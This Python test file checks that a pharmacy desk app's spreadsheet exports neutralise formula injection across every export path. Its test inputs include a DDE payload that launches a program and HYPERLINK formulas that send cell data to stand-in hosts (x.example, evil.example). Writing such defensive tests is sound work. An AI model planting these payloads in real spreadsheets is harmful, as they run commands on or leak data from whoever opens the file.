"""One formula-injection policy for every workbook the app writes.

Text a spreadsheet would run as a formula (= + - @, tab, carriage return) comes back,
read by python-calamine and by openpyxl, as the literal text of a string cell with
Excel's quote prefix, never as a formula; numbers, negative ones included, stay numbers.
Each export path is checked: tables, the member export, call lists, SMS lists, the
monthly report and the lines above a header.
"""

from __future__ import annotations

import datetime as dt
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from pharmacy_desk.core.spreadsheet.export import Cell, ExportColumn, ExportSheet, export_sheets, export_table

HOSTILE = ['=HYPERLINK("http://x.example/"&A1,"点我")', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
           "=cmd|' /C calc'!A0"]
# Member names are trimmed when stored, so a name cannot start with a tab or a carriage return.
HOSTILE_NAMES = [text for text in HOSTILE if not text[0].isspace()]
OLD = dt.datetime(2025, 1, 5, 9, 0)


def calamine_rows(path, sheet: str | None = None) -> list[list]:
    book = CalamineWorkbook.from_path(str(path))
    return book.get_sheet_by_name(sheet or book.sheet_names[0]).to_python()


def assert_literal(cell, text: str) -> None:
    """An openpyxl cell holding ``text`` as a quoted string: not a formula, not altered."""
    assert cell.value == text and cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, text)


def test_a_table_writes_formula_text_literally_and_numbers_as_numbers(tmp_path):
    path = tmp_path / "t.xlsx"
    rows = [(text, -500, -1234, -1.5) for text in HOSTILE]
    export_table(rows, [ExportColumn("名称"), ExportColumn("积分", "int"), ExportColumn("金额", "money"),
                        ExportColumn("原值", "raw")], path)
    sheet = load_workbook(path).active
    for number, text in enumerate(HOSTILE, start=2):
        assert_literal(sheet.cell(number, 1), text)
        points, money, raw = (sheet.cell(number, column) for column in (2, 3, 4))
        assert (points.value, points.data_type) == (-500, "n")
        assert money.data_type == "n" and Decimal(str(money.value)) == Decimal("-12.34")
        assert (raw.value, raw.data_type) == (-1.5, "n")
    assert [row[0] for row in calamine_rows(path)[1:]] == HOSTILE
    assert calamine_rows(path)[1][1:] == [-500, -12.34, -1.5]


def test_titles_headers_and_lines_above_them_follow_the_same_policy(tmp_path):
    # An error report copies the header of the file being imported: a hostile file chooses it.
    path = tmp_path / "h.xlsx"
    export_sheets([ExportSheet("表", [("x",)], [ExportColumn("=HYPERLINK(\"http://x\")")], above=("@SUM(A1)", ""))],
                  path)
    sheet = load_workbook(path).active
    assert_literal(sheet["A1"], "@SUM(A1)")
    assert_literal(sheet["A3"], '=HYPERLINK("http://x")')
    assert sheet["A3"].font.b and sheet.freeze_panes == "A4" and sheet["A4"].value == "x"
    assert calamine_rows(path)[0][0] == "@SUM(A1)"


def test_a_value_of_its_own_kind_in_a_column(tmp_path):
    path = tmp_path / "c.xlsx"
    export_table([("比率", Cell(0.25, "percent")), ("金额", Cell(-250, "money")), ("文字", Cell("-3", "text"))],
                 [ExportColumn("名称"), ExportColumn("数值", "int")], path)
    sheet = load_workbook(path).active
    assert (sheet["B2"].value, sheet["B2"].number_format) == (0.25, "0.0%")
    assert (sheet["B3"].value, sheet["B3"].number_format, sheet["B3"].data_type) == (-2.5, "#,##0.00", "n")
    assert_literal(sheet["B4"], "-3")


def test_the_member_export(db, make_member, owner, tmp_path):
    from pharmacy_desk.core.spreadsheet.tables import export_members

    for number, (name, note) in enumerate(zip(HOSTILE_NAMES, HOSTILE), start=1):
        make_member(phone=f"1390000{number:04d}", name=name, notes=note)
    path = tmp_path / "members.xlsx"
    export_members(path, owner)
    sheet = load_workbook(path).active
    notes_column = [c.value for c in sheet[1]].index("备注") + 1
    for number, (name, note) in enumerate(zip(HOSTILE_NAMES, HOSTILE), start=2):
        assert_literal(sheet.cell(number, 2), name)
        assert_literal(sheet.cell(number, notes_column), note)
    assert [row[1] for row in calamine_rows(path)[1:]] == HOSTILE_NAMES


def test_the_call_list_export(db, make_member, owner, tmp_path):
    from pharmacy_desk.core import call_lists

    for number, name in enumerate(HOSTILE_NAMES, start=1):
        make_member(phone=f"1390000{number:04d}", name=name, at=OLD)
    rows = call_lists.dormant(dt.date(2026, 6, 10))
    path = tmp_path / "calls.xlsx"
    assert call_lists.export_xlsx(path, "A/B类会员", rows, owner) == len(HOSTILE_NAMES)
    book = load_workbook(path)
    assert book.sheetnames == ["A_B类会员"]  # "/" is refused by Excel in a sheet name
    sheet = book.active
    assert sorted(sheet.cell(n, 1).value for n in range(2, 2 + len(rows))) == sorted(HOSTILE_NAMES)
    for number in range(2, 2 + len(rows)):
        assert_literal(sheet.cell(number, 1), sheet.cell(number, 1).value)
    assert sorted(row[0] for row in calamine_rows(path)[1:]) == sorted(HOSTILE_NAMES)


def test_the_sms_export(db, owner, tmp_path):
    from pharmacy_desk.core import campaigns

    recipients = [campaigns.Recipient(n, "张三", f"1390000{n:04d}", "", "短信", text)
                  for n, text in enumerate(HOSTILE, start=1)]
    path = tmp_path / "sms.xlsx"
    assert campaigns.export_sms(path, recipients, owner) == len(HOSTILE)
    sheet = load_workbook(path).active
    for number, text in enumerate(HOSTILE, start=2):
        assert_literal(sheet.cell(number, 3), text)
        assert (sheet.cell(number, 1).value, sheet.cell(number, 1).data_type) == (f"1390000{number - 1:04d}", "s")
    assert [row[2] for row in calamine_rows(path)[1:]] == HOSTILE


@pytest.fixture
def june(db, make_member, sell, clerk, owner):
    from tests.reports_helpers import build_june

    build_june(make_member, sell, clerk, owner)


def test_the_monthly_report_workbook(june, clerk, owner, tmp_path):
    from pharmacy_desk.core.models import Category, Staff
    from pharmacy_desk.core.reports.period import Month
    from pharmacy_desk.core.reports.report import build_report
    from pharmacy_desk.core.reports.workbook import write_workbook

    staff_name, category_name = '=HYPERLINK("http://evil.example","业绩")', "-2+3"
    Staff.update(name=staff_name).where(Staff.id == clerk.id).execute()
    Category.update(name=category_name).where(Category.code == "household").execute()
    path = write_workbook(build_report(Month(2026, 6), owner, trend_months=2), tmp_path / "june.xlsx", owner)
    book = load_workbook(path)
    staff = next(row for row in book["店员业绩"].iter_rows(min_row=4) if row[0].value == staff_name)
    assert_literal(staff[0], staff_name)
    assert staff[4].data_type == "n" and staff[4].number_format == "#,##0.00"
    category = next(row for row in book["类别排行"].iter_rows(min_row=4) if row[0].value == category_name)
    assert_literal(category[0], category_name)
    assert all(cell.data_type != "f" for sheet in book for row in sheet.iter_rows() for cell in row)
    assert staff_name in [row[0] for row in calamine_rows(path, "店员业绩")]
    # the figures: money, counts and rates as numbers, each in its own format
    figures = {row[0].value: row[1] for row in book["月度指标"].iter_rows(min_row=3)}
    assert figures["销售额（净）"].number_format == "#,##0.00" and figures["复购率"].number_format == "0.0%"
    assert figures["新会员"].value == 2 and figures["新会员"].data_type == "n"


def test_openpyxl_reads_xml_through_defusedxml():
    """openpyxl uses defusedxml when it is installed (a declared dependency): no entity expansion on reading."""
    from openpyxl.xml import DEFUSEDXML

    assert DEFUSEDXML is True
